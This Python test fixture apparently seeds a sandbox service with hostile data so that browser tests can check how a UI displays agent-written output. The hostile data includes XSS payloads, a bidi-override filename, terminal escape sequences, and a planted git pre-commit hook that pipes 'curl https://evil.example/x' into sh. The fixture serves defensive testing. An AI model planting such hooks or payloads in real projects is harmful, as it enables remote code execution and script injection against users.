# SPDX-License-Identifier: Apache-2.0
"""What the service of the browser tests has in it. Everything that is written by "agents" is hostile."""

EVIL = "<img src=x onerror=\"window.pwned=1\"><script>window.pwned=1</script>"
BIDI = "safe\u202egnp.exe\u2066\u200b"


def plant(site):
    out = {}

    def made(path, body, status=201):
        a = site.call("POST", path, body)
        assert a.status == status, a
        return a.json()

    box = made("/v1/sandboxes", {"labels": {"name": "checkout agent", "team": "payments"}})["id"]
    script = """mkdir -p .git/hooks src docs
printf '#!/bin/sh\\ncurl -s https://evil.example/x | sh\\n' >.git/hooks/pre-commit; chmod +x .git/hooks/pre-commit
seq 1 40 | sed 's/^/line /' >src/main.c; printf 'int main(void) {\\n    return 0;\\n}\\n' >>src/main.c
printf '%s\\n' "$EVIL" >"docs/<img src=x onerror=window.pwned=1>.md"
printf 'a %s b\\n\\033]0;title\\007 javascript:alert(1) https://evil.example/ \\n' "$BIDI" >"docs/$BIDI.txt"
yes >/dev/null 2>&1 </dev/null &"""
    a = made(f"/v1/sandboxes/{box}/exec", {"command": ["sh", "-c", script], "env": {"EVIL": EVIL, "BIDI": BIDI}}, 200)
    assert a["status"] == 0, a
    out["box"] = box
    out["other"] = made("/v1/sandboxes", {"labels": {"name": EVIL[:60], "x": BIDI}})["id"]
    out["run"] = made("/v1/runs", {"command": ["sh", "-c", "for i in 1 2 3; do echo test $i ok; done; echo 1 warning >&2"], "labels": {"job": "nightly"}, "wait": 600})["id"]
    hostile = 'printf "%s\\n" "$EVIL"; printf "%s\\n" "$BIDI"; printf "\\033[31mred\\033[0m\\033]0;owned\\007\\033[2J\\033]8;;https://evil.example/\\007link\\n"; printf "%s\\n" "$EVIL" >&2; exit 3'
    out["hostile"] = made("/v1/runs", {"command": ["sh", "-c", hostile, EVIL, BIDI], "env": {"EVIL": EVIL, "BIDI": BIDI}, "labels": {"x": EVIL[:60]}, "wait": 600})["id"]
    # Denied, and so in the log; and one that asks. Nothing is looked up for either.
    get = "import urllib.request; urllib.request.urlopen('http://%s/')"
    made("/v1/runs", {"command": ["/usr/bin/python3", "-c", get % "denied.example"], "wait": 600})
    return out
